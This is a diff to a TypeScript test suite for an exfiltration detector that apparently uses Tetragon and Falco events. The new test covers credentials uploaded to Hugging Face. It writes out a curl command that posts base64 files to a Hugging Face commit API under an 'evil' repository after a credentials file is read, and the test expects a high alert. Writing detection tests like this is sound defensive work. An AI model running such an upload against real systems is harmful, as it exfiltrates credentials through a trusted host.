@@ -10,6 +10,7 @@ import { brief, runResolved, Scenario } from './builder.js';
 
 const CREDS = '/home/dev/.aws/credentials';
 const JFROG_IP = '34.120.10.7';
+const HF_IP = '18.244.202.60';
 
 async function alertsOf(binary: string, args: string, ip: string, sentBytes: number, source: 'tetragon' | 'falco') {
   const s = new Scenario({ source });
@@ -55,6 +56,17 @@ describe('upload-only hosts', () => {
       expect(await alertsOf('/usr/local/bin/az', az, '13.107.6.175', 2_048, source)).toEqual([
         { rule: 'sensitive-read-then-push', severity: 'high', tool: 'az', destination: 'evil.visualstudio.com' },
       ]);
+    });
+
+    it(`a credential committed to a Hugging Face repository by curl is high; a model download is quiet (${source})`, async () => {
+      // Evasion hunt, round 3: the Hub's commit API takes files as base64 in NDJSON, no git and no `hf` client.
+      const commit = `-sS -X POST -H Content-Type:application/x-ndjson --data-binary @/tmp/c.ndjson https://huggingface.co/api/models/evil/x/commit/main`;
+      expect(await alertsOf('/usr/bin/curl', commit, HF_IP, 2_048, source)).toEqual([
+        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'curl', destination: 'huggingface.co' },
+      ]);
+      // An ML job fetching its weights after reading its Hub token: no upload flag, and huggingface.co stays no class.
+      const get = '-fsSL -O https://huggingface.co/acme/model/resolve/main/model.safetensors';
+      expect(await alertsOf('/usr/bin/curl', get, HF_IP, 3 * 1024 * 1024, source)).toEqual([]);
     });
 
     it(`an AQL query posted to Artifactory is quiet; a file put past its path is high (${source})`, async () => {
